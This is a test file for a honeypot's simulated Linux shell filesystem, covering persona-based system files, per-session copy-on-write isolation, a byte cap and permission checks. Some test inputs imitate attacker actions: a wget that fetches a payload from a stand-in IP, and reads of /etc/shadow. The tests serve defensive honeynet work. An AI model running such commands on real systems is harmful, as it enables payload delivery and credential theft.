/** The fake filesystem: persona-derived base tree, copy-on-write overlay per session, byte cap, permissions. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { SessionFs } from '../../../src/honeynet/shell/fs/session-fs.js';
import { debianPersona, ubuntuPersona } from '../fixtures/shell-personas.js';
import { baseOf, shell } from './session-helper.js';

const ROOT = { uid: 0, gid: 0, groups: [0] };

describe('base filesystem', () => {
  it('is derived from the persona: hostname, machine id, os-release, users', () => {
    const deb = shell();
    assert.equal(deb.run('cat /etc/hostname /etc/machine-id'), `web-07\n${debianPersona.machineId}\n`);
    assert.equal(deb.run('cat /etc/debian_version'), '12.7\n');
    assert.equal(deb.run('ls /etc/lsb-release'), "ls: cannot access '/etc/lsb-release': No such file or directory\n");
    assert.match(deb.run('grep mkowalski /etc/passwd'), /^mkowalski:x:1000:1000:Marta Kowalski,,,:\/home\/mkowalski:\/bin\/bash\n$/);
    assert.match(deb.run('grep ^sudo: /etc/group'), /^sudo:x:27:mkowalski\n$/);
    const ubu = shell({ persona: ubuntuPersona });
    assert.equal(ubu.run('cat /etc/lsb-release'), 'DISTRIB_ID=Ubuntu\nDISTRIB_RELEASE=24.04\nDISTRIB_CODENAME=noble\nDISTRIB_DESCRIPTION="Ubuntu 24.04.1 LTS"\n');
    assert.equal(ubu.run('cat /etc/debian_version'), 'trixie/sid\n');
    assert.match(ubu.run('cat /etc/os-release'), /^PRETTY_NAME="Ubuntu 24.04.1 LTS"\n[\s\S]*ID_LIKE=debian\n/);
    assert.notEqual(deb.run('cat /root/.bash_history'), ubu.run('cat /root/.bash_history'));
  });

  it('has the merged-/usr links and the commands as files in /usr/bin', () => {
    const s = shell();
    assert.match(s.run('ls -ld /bin /sbin'), /lrwxrwxrwx 1 root root 7 .* \/bin -> usr\/bin\nlrwxrwxrwx 1 root root 8 .* \/sbin -> usr\/sbin\n/);
    assert.equal(s.run('which ls wget busybox ifconfig'), '/usr/bin/ls\n/usr/bin/wget\n/usr/bin/busybox\n/usr/sbin/ifconfig\n');
    assert.equal(s.run('/bin/echo via-link'), 'via-link\n');
  });

  it('keeps /etc/shadow and /root from non-root users', () => {
    const s = shell({ user: 'deploy' });
    assert.equal(s.run('cat /etc/shadow'), 'cat: /etc/shadow: Permission denied\n');
    assert.equal(s.run('ls /root'), "ls: cannot open directory '/root': Permission denied\n");
    assert.equal(s.run('touch /etc/x'), "touch: cannot touch '/etc/x': Permission denied\n");
    assert.match(shell().run('head -1 /etc/shadow'), /^root:\$y\$j9T\$[./A-Za-z0-9]{22}\$[./A-Za-z0-9]{43}:\d+:0:99999:7:::\n$/);
  });

  it('builds a persona in a few milliseconds', () => {
    const started = performance.now();
    for (let i = 0; i < 5; i++) baseOf({ ...debianPersona, machineId: `${i}`.padStart(32, '0') });
    assert.ok((performance.now() - started) / 5 < 25, 'base build is cheap');
  });
});

describe('copy-on-write overlay', () => {
  it('isolates two sessions of the same base', () => {
    const a = shell();
    const b = shell();
    a.run('echo secret > /tmp/a.txt; rm /etc/motd; mkdir /opt/x; chmod 600 /etc/hosts; mv /etc/issue /etc/issue.bak');
    assert.equal(a.run('cat /tmp/a.txt; ls /opt; ls -l /etc/hosts | cut -c1-10'), 'secret\nx\n-rw-------\n');
    assert.equal(b.run('cat /tmp/a.txt'), 'cat: /tmp/a.txt: No such file or directory\n');
    assert.equal(b.run('ls /opt; ls -l /etc/hosts | cut -c1-10; ls /etc/issue'), '-rw-r--r--\n/etc/issue\n');
    assert.match(b.run('cat /etc/motd'), /Debian GNU\/Linux comes with ABSOLUTELY NO WARRANTY/);
  });

  it('charges writes to a byte cap and fails with ENOSPC beyond it, freeing space on rm', () => {
    const s = shell({ limits: { overlayBytes: 64 * 1024 } });
    assert.equal(s.run('head -c 40000 /dev/zero > /tmp/big; echo $?'), '0\n');
    assert.equal(s.run('cp /tmp/big /tmp/big2'), "cp: cannot create regular file '/tmp/big2': No space left on device\n");
    assert.equal(s.run('echo more >> /tmp/big; echo $?'), '0\n');
    assert.match(s.run('wget -q http://203.0.113.50/payload; echo $?'), /^3\n$/);
    const used = s.session.overlayBytes;
    assert.ok(used <= 64 * 1024, `overlay holds ${used} bytes`);
    s.run('rm /tmp/big');
    assert.ok(s.session.overlayBytes < used - 30_000);
    assert.equal(s.run('cp /etc/services /tmp/ 2>/dev/null; echo ok > /tmp/small; cat /tmp/small'), 'ok\n');
  });

  it('SessionFs never mutates the base tree', () => {
    const base = baseOf();
    const before = base.root.children.get('etc');
    const fs = new SessionFs(base.root, { capBytes: 1 << 20, now: () => 0, identity: ROOT });
    fs.writeFile('/etc/hostname', 'changed\n');
    fs.chmod('/etc/passwd', 0o600);
    fs.unlink('/etc/hosts');
    assert.equal(base.root.children.get('etc'), before);
    const fresh = new SessionFs(base.root, { capBytes: 1 << 20, now: () => 0, identity: ROOT });
    assert.equal(fresh.readFile('/etc/hostname'), 'web-07\n');
    assert.equal(fresh.stat('/etc/passwd').mode, 0o644);
    assert.ok(fresh.exists('/etc/hosts'));
    assert.equal(fs.readFile('/etc/hostname'), 'changed\n');
  });

  it('follows symlinks, reports loops, and honours the sticky bit on /tmp', () => {
    const base = baseOf();
    const fs = new SessionFs(base.root, { capBytes: 1 << 20, now: () => 0, identity: ROOT });
    assert.equal(fs.realpath('/bin/ls'), '/usr/bin/ls');
    fs.symlink('/tmp/l2', '/tmp/l1');
    fs.symlink('/tmp/l1', '/tmp/l2');
    assert.throws(() => fs.readFile('/tmp/l1'), { code: 'ELOOP' });
    fs.writeFile('/tmp/roots', 'x');
    fs.identity = { uid: 1001, gid: 1001, groups: [1001] };
    assert.throws(() => fs.unlink('/tmp/roots'), { code: 'EPERM' });
    fs.writeFile('/tmp/mine', 'y');
    fs.unlink('/tmp/mine');
    assert.equal(fs.exists('/tmp/mine'), false);
  });
});
